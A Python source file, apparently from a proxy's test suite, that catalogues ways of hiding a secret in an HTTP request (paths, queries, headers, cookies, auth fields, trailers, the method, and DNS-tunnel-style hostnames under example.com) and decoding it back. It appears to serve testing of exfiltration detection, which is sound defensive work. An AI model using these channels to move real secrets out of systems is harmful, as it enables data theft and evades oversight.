"""Corners of the target and of the header fields."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from urllib.parse import quote, unquote, unquote_plus

from proxy.cli.evasions.bases import b64, un64, url64
from proxy.cli.evasions.families.places import PLC
from proxy.cli.evasions.model import Place, Request, Secret, Technique, Way, placed
from proxy.cli.evasions.ways import digits, proving
from proxy.core.message import Headers


def path(form: str, *, coding: Callable[[str], str] = lambda text: quote(text, safe="")) -> Way:
    """In the target; `form` has `{v}`."""
    before, _, after = form.partition("{v}")

    def send(secret: Secret) -> Request:
        start = before.format(key=secret.key)
        return Request(path=(start + coding(secret.value) + after).encode(), method="GET")

    def receive(request: Request) -> str:
        target = request.path.decode()
        return unquote_plus(target[: len(target) - len(after)] if after else target)

    return send, receive


def header(name: str, form: str, read: Callable[[str], str] = lambda text: text) -> Way:
    """In a header field; `form` has `{v}` and may have `{key}`."""

    def send(secret: Secret) -> Request:
        value = form.format(v=secret.value, key=secret.key, k=secret.key.replace("_", "-"))
        return Request(headers=((name.encode(), value.encode()),), method="GET")

    return send, lambda request: read(request.headers[0][1].decode())


def _named(secret: Secret) -> Request:
    """The value is the field's name."""
    name = f"X-{secret.key.replace('_', '-')}-{secret.value.replace('(', '-').replace(')', '')}"
    return Request(headers=((name.encode(), b"1"),), method="GET")


def _name_read(request: Request) -> str:
    # brackets may not stand in a field's name: the receiver knows an HKID by its shape
    last = request.headers[0][0].decode().rsplit("-", 2)
    return last[-1] if len(last[-1]) > 1 else f"{last[-2]}({last[-1]})"


def _basic(secret: Secret) -> Request:
    return Request(headers=((b"Authorization", f"Basic {b64(f'{secret.value}:{secret.key}')}".encode()),), method="GET")


def _basic_read(request: Request) -> str:
    return un64(request.header(b"authorization").removeprefix("Basic ")).partition(":")[0]


def _labels(code: Callable[[str], str], decode: Callable[[str], str]) -> Way:
    """A name to be looked up, as DNS tunnels make it; 63 characters a label."""

    def send(secret: Secret) -> Request:
        name = code(f"{secret.key} {secret.value}")
        labels = ".".join(name[at : at + 50] for at in range(0, len(name), 50))
        return Request(b"{}", "application/json", host=f"{labels}.t.example.com")

    return send, lambda request: decode(request.host.removesuffix(".t.example.com").replace(".", ""))


def _plain_labels(secret: Secret) -> Request:
    name = secret.value.replace("(", "-").replace(")", "").lower()
    return Request(b"{}", "application/json", host=f"{name}.{secret.key.replace('_', '-')}.example.com")


def _plain_read(request: Request) -> str:
    return re.sub(r"-(.)$", r"(\1)", request.host.partition(".")[0]).upper()


def _trailers(secret: Secret) -> Request:
    trailers: Headers = ((b"X-" + secret.key.replace("_", "-").encode(), secret.value.encode()),)
    return Request(b"{}", "application/json", ((b"Trailer", trailers[0][0]),), trailers=trailers)


def _method(secret: Secret) -> Request:
    return Request(method=f"PUT{re.sub('[^0-9A-Z]', '', secret.value)}", path=f"/{secret.key}".encode())


def _b32(text: str) -> str:
    return base64.b32encode(text.encode()).decode().rstrip("=").lower()


def _unb32(text: str) -> str:
    return base64.b32decode(text.upper() + "=" * (-len(text) % 8)).decode()


def number(secret: Secret) -> bool:
    """A number of nothing but digits that is known without a word beside it."""
    return digits(secret) and secret.proves


TECHNIQUES: tuple[Technique, ...] = (
    placed(
        "path segment",
        PLC,
        "reads the path",
        [
            Place("last", *path("/{key}/{v}")),
            Place("middle", *path("/u/{key}/{v}/view")),
            Place("file name", *path("/f/{key}-{v}.json")),
        ],
    ),
    placed("path parameter", PLC, "reads what follows the semicolon", [Place("matrix", *path("/u;{key}={v}/view"))]),
    placed(
        "coded path",
        PLC,
        "decodes the segment",
        [
            Place(
                "base64url", *(path("/d/{v}", coding=url64)[0], lambda r: un64(unquote(r.path.decode().split("/")[2])))
            ),
            Place(
                "hex",
                *(
                    path("/d/{v}", coding=lambda t: t.encode().hex())[0],
                    lambda r: bytes.fromhex(r.path.decode().split("/")[2]).decode(),
                ),
            ),
            Place(
                "every byte in percent", *path("/{key}/{v}", coding=lambda t: "".join(f"%{b:02x}" for b in t.encode()))
            ),
        ],
        proving,
    ),
    placed(
        "name in the query",
        PLC,
        "reads the names",
        [Place("name", *path("/t?kind={key}&{v}=1")), Place("bare", *path("/t?{key}&{v}"))],
        proving,
    ),
    placed(
        "value in the query",
        PLC,
        "reads the query",
        [
            Place("value", *path("/t?{key}={v}")),
            Place("JSON", *path("/t?q=%7B%22{key}%22:%22{v}%22%7D")),
            Place("array", *path("/t?{key}[]={v}&x=1")),
        ],
    ),
    placed("fragment", PLC, "reads what follows #", [Place("fragment", *path("/page#{key}={v}"))]),
    placed(
        "custom header",
        PLC,
        "reads the field",
        [
            Place("X-", *header("X-Ref", "{key}={v}")),
            Place("Accept-Language", *header("Accept-Language", "zh; q=0.9; {key}={v}")),
            Place("If-None-Match", *header("If-None-Match", '"{key}={v}"')),
            Place("Via", *header("X-Forwarded-Host", "x; {key}={v}")),
        ],
    ),
    placed(
        "coded header",
        PLC,
        "decodes the field",
        [
            Place(
                "base64",
                lambda s: Request(headers=((b"X-Trace", b64(f"{s.key}: {s.value}").encode()),)),
                lambda r: un64(r.header(b"x-trace")),
            ),
            Place(
                "JSON",
                lambda s: Request(headers=((b"X-Context", json.dumps({s.key: s.value}).encode()),)),
                lambda r: r.header(b"x-context"),
            ),
        ],
    ),
    placed("name of a header", PLC, "reads the names", [Place("name", _named, _name_read)], proving),
    placed(
        "cookie",
        PLC,
        "reads the cookies",
        [
            Place("value", *header("Cookie", "a=1; {key}={v}")),
            Place("name", *header("Cookie", "{key}={v}")),
            Place(
                "base64",
                lambda s: Request(headers=((b"Cookie", f"s={url64(json.dumps({s.key: s.value}))}".encode()),)),
                lambda r: un64(r.header(b"cookie")[2:]),
            ),
        ],
    ),
    placed(
        "User-Agent",
        PLC,
        "reads the field",
        [
            Place("comment", *header("User-Agent", "Mozilla/5.0 ({key}: {v})")),
            Place("product", *header("User-Agent", "App/1 {key}={v}")),
        ],
    ),
    placed(
        "Referer",
        PLC,
        "reads the field",
        [
            Place("query", *header("Referer", "https://example.com/p?{key}={v}")),
            Place("path", *header("Referer", "https://example.com/{key}/{v}")),
        ],
    ),
    placed(
        "user name of basic authentication",
        PLC,
        "decodes the credentials",
        [Place("Authorization", _basic, _basic_read)],
        proving,
    ),
    placed(
        "bearer token",
        PLC,
        "reads the claims",
        [
            Place(
                "JWT",
                lambda s: Request(
                    headers=(
                        (
                            b"Authorization",
                            f"Bearer e30.{url64(json.dumps({s.key: s.value})).rstrip('=')}.c2ln".encode(),
                        ),
                    )
                ),
                lambda r: un64(r.header(b"authorization").split(".")[1]),
            )
        ],
    ),
    placed(
        "name to be looked up",
        PLC,
        "runs the name server of the domain",
        [Place("plain", _plain_labels, _plain_read)],
        proving,
    ),
    placed(
        "coded name to be looked up",
        PLC,
        "decodes the labels",
        [
            Place("hex", *_labels(lambda t: t.encode().hex(), lambda t: bytes.fromhex(t).decode())),
            Place("base32", *_labels(_b32, _unb32)),
        ],
    ),
    placed(
        "trailer",
        PLC,
        "reads the trailers of the chunked body",
        [Place("trailer", _trailers, lambda r: r.trailers[0][1].decode())],
    ),
    placed("method", PLC, "reads the method", [Place("method", _method, lambda r: r.method[3:])], number),
)
